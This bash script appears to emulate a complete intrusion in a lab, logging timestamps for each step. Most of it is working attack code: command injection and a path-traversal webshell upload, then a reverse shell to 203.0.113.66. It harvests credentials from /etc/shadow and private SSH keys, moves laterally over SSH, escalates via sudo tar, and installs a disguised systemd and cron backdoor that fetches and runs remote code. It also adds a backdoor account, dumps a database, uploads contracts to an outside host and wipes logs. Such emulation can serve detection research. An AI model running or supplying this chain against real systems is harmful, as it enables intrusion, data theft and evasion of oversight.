#!/bin/bash
# The intruder, run inside the unaudited host `ext` (203.0.113.66). Notes each step's start and end in /root/steps.tsv.
W=http://192.0.2.10
UA='Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36'
notes=/root/steps.tsv
now() { date -u +%Y-%m-%dT%H:%M:%S.%6NZ; }
begin() { step=$1; from=$(now); }
end() { printf '%s\t%s\t%s\n' "$step" "$from" "$(now)" >> $notes; }
get() { curl -s -A "$UA" --get "$@"; }

begin scan
nmap -sT -Pn -n --max-retries 1 -p 21,22,23,25,53,80,110,139,143,443,445,514,993,3306,5432,6379,8000,8080,8443,9200 192.0.2.10 > /dev/null
for p in admin backup backup.zip config config.php db.sql .env .git/HEAD .htaccess .svn/entries server-status phpinfo.php test.php shell.php upload.php uploads/ api/ api/v1/users console/ manager/html actuator/env wp-admin/ old/ tmp/ logs/ private/ secret/ install.php setup.php login.php administrator/ cgi-bin/test.cgi dump.sql site.tar.gz web.config app/admin app/config app/debug app/status app/hooks app/uploads app/export app/label; do
  curl -s -o /dev/null -A 'gobuster/3.6' "$W/$p"
done
end; sleep 12

begin exploit
get "$W/app/label" --data-urlencode 'fmt=pdf;id' > /dev/null; sleep 3
get "$W/app/label" --data-urlencode 'fmt=pdf;uname -a;pwd;ls -la' > /dev/null
end; sleep 8

begin webshell
curl -s -A "$UA" -X POST --data-binary $'#!/bin/sh\neval "$QUERY" 2>&1\n' "$W/app/upload?name=../hooks/status.sh" > /dev/null; sleep 2
get "$W/app/hooks/status.sh" --data-urlencode 'c=whoami' > /dev/null; sleep 2
get "$W/app/hooks/status.sh" --data-urlencode 'c=cat /etc/os-release; ls -la /opt/portal' > /dev/null
end; sleep 6

# From here on the intruder types into a reverse shell; what is echoed below is run on web1.
(
  begin reverse-shell; sleep 6; echo 'export HISTFILE=/dev/null; cd /tmp'; sleep 2; end
  begin discovery
  for c in 'id' 'hostname' 'uname -a' 'cat /etc/passwd' 'ip addr' 'ip route' 'ss -tlnp' 'ps aux' 'cat /etc/hosts' 'ls -la /home' 'find / -xdev -perm -4000 -type f 2>/dev/null' 'sudo -n -l'; do echo "$c"; sleep 1.5; done
  end; sleep 3
  begin credentials-web
  for c in 'grep -rniE "passw|secret" /opt/portal --include=*.ini --include=*.py' 'cat /opt/portal/config.ini' 'ls -la /opt/portal/keys' 'cat /opt/portal/keys/id_ed25519' 'cat /etc/cron.d/site'; do echo "$c"; sleep 2; done
  end; sleep 4

  begin lateral-app
  echo 'ssh -T -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i /opt/portal/keys/id_ed25519 deploy@10.20.10.20'; sleep 3
  for c in 'id' 'hostname' 'w' 'cat /etc/issue'; do echo "$c"; sleep 1.5; done
  end
  begin escalate
  echo 'sudo -n -l'; sleep 2
  echo 'sudo -n tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/bash'; sleep 2
  echo 'id; whoami'; sleep 1
  end; sleep 2
  begin credentials-app
  for c in 'cat /etc/shadow' 'ls -la /root/.ssh' 'cat /root/.ssh/id_ed25519' 'cat /etc/cron.d/site' 'cat /root/.ssh/known_hosts'; do echo "$c"; sleep 2; done
  end; sleep 2
  begin persistence-app
  echo 'mkdir -p /usr/local/lib/netcache; printf "#!/bin/bash\nwhile :; do bash -i >& /dev/tcp/203.0.113.66/443 0>&1; sleep 300; done\n" > /usr/local/lib/netcache/netcached; chmod +x /usr/local/lib/netcache/netcached'; sleep 2
  echo 'printf "[Unit]\nDescription=Network name cache\n[Service]\nExecStart=/usr/local/lib/netcache/netcached\nRestart=always\n[Install]\nWantedBy=multi-user.target\n" > /etc/systemd/system/netcache.service; ln -s /etc/systemd/system/netcache.service /etc/systemd/system/multi-user.target.wants/netcache.service'; sleep 2
  echo 'echo "* * * * * root curl -s http://203.0.113.66/u -o /dev/shm/.u && sh /dev/shm/.u" > /etc/cron.d/ntp-sync'; sleep 2
  end
  begin account-app
  echo 'useradd -m -s /bin/bash -G sudo svc-print'; sleep 2
  echo 'echo "svc-print:Quay-9911" | chpasswd'; sleep 2
  end; sleep 3
  begin tools
  echo 'curl -s -o /dev/shm/.p http://203.0.113.66/p; chmod +x /dev/shm/.p'; sleep 3
  end
  begin scan-inside
  echo 'nmap -sT -Pn -n --max-retries 1 --host-timeout 8s -p 22,80,445,514,3306,5432 10.20.20.30 10.20.20.40 10.20.20.50 10.20.20.60 > /dev/null < /dev/null'; sleep 10
  end
  begin guessing
  for p in tide-Pool-4411 harbour2026 Welcome1 SpringTide2024 SpringTide2025 Quay-2026 SpringTide2026; do
    echo "/dev/shm/.p -p $p ssh -T -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 ada@10.20.20.40 'id; ls /srv/documents' < /dev/null"; sleep 4
  done
  end; sleep 2
  begin database
  echo 'PGPASSWORD=tide-Pool-4411 pg_dump -h 10.20.20.30 -U portal shipments > /dev/shm/.d.sql; gzip /dev/shm/.d.sql; ls -l /dev/shm'; sleep 5
  end
  begin lateral-files
  echo 'ssh -T -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i /root/.ssh/id_ed25519 vault@10.20.20.40'; sleep 3
  for c in 'id' 'hostname' 'ls -la /srv/documents' 'du -sh /srv/documents/contracts'; do echo "$c"; sleep 1.5; done
  end
  begin key-files
  echo "echo '$(cat /root/evil.pub)' >> ~/.ssh/authorized_keys"; sleep 3
  end
  begin collect
  echo 'tar -czf /tmp/.cache-7f.tgz -C /srv/documents contracts'; sleep 3
  echo 'split -b 400k /tmp/.cache-7f.tgz /tmp/.cache-7f.part-; ls -la /tmp'; sleep 3
  end
  begin exfiltrate
  for p in aa ab ac; do echo "test -f /tmp/.cache-7f.part-$p && curl -s -A sync/1.0 -T /tmp/.cache-7f.part-$p http://cdn.updates-mirror.example/$p"; sleep 3; done
  end
  begin clean-files
  echo 'rm -f /tmp/.cache-7f*; shred -u ~/.bash_history; history -c'; sleep 2; echo 'exit'; sleep 2
  end
  begin exfiltrate-database
  echo 'curl -s -A sync/1.0 -T /dev/shm/.d.sql.gz http://cdn.updates-mirror.example/d'; sleep 3
  end
  begin clean-app
  for c in 'sed -i "/10\.20\.10\.10/d" /var/log/auth.log' 'truncate -s 0 /var/log/wtmp' 'rm -f /root/.bash_history /dev/shm/.p /dev/shm/.d.sql.gz' 'touch -r /etc/hostname /etc/systemd/system/netcache.service' 'kill $(cat /run/rsyslogd.pid)'; do echo "$c"; sleep 2; done
  echo 'exit'; sleep 1; echo 'exit'; sleep 2
  end
  begin clean-web
  echo 'rm -f /opt/portal/hooks/status.sh'; sleep 2; echo 'exit'; sleep 1
  end
) | ncat -l -n 443 > /root/seen.txt &
sleep 1
curl -s -A "$UA" --get "$W/app/hooks/status.sh" --data-urlencode "c=nohup bash -c 'bash -i >& /dev/tcp/203.0.113.66/443 0>&1' > /dev/null 2>&1 &" > /dev/null
wait

sleep 20
begin return
ssh -i /root/id_ed25519 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null vault@192.0.2.10 true > /dev/null 2>&1
curl -s -o /dev/null -A "$UA" "$W/app/hooks/status.sh?c=id"
end
